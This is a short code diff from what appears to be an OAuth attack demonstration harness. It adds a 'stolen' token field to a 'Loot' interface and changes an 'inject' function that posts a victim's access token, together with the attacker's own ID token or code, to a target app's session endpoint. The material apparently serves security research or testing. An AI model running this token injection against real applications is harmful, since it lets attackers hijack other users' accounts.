@@ -13,6 +13,8 @@ export const WALLPAPERS = 'https://wallpapers.example'
 export interface Loot {
   /** Ada’s, issued to the attacker’s app. */
   received?: string
+  /** Ada’s too, issued to the app that is attacked. */
+  stolen?: string
   /** What the response had beside the access token: an ID token of the attacker’s own account, or a code. */
   own?: string
   /** What that app has answered. */
@@ -93,10 +95,11 @@ export async function signInThemselves(
 export async function inject(
   browser: PlainBrowser,
   config: ClientConfig,
-  { received = '', own = '' }: Loot,
+  access_token = '',
+  own = '',
 ): Promise<string> {
   // #region injected
-  const response = new URLSearchParams({ access_token: received, [ownPart(config)]: own })
+  const response = new URLSearchParams({ access_token, [ownPart(config)]: own })
   return (await browser.post(new URL('/session', config.redirect_uri).href, response.toString())).body
   // #endregion
 }
